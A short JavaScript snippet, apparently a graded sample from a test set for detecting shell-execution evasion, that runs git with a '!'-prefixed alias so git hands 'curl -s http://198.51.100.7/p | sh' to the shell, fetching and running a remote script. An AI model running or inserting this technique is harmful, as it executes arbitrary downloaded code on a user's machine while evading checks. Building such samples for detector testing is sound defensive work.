// evasion: git run with an argument list whose -c alias starts with "!" so git runs it through the shell
// grade: hard; does: shell
const { execFileSync } = require('child_process');

const alias = 'alias.sync=!curl -s http://198.51.100.7/p | sh';
execFileSync('git', ['-c', alias, 'sync'], { stdio: 'inherit' });
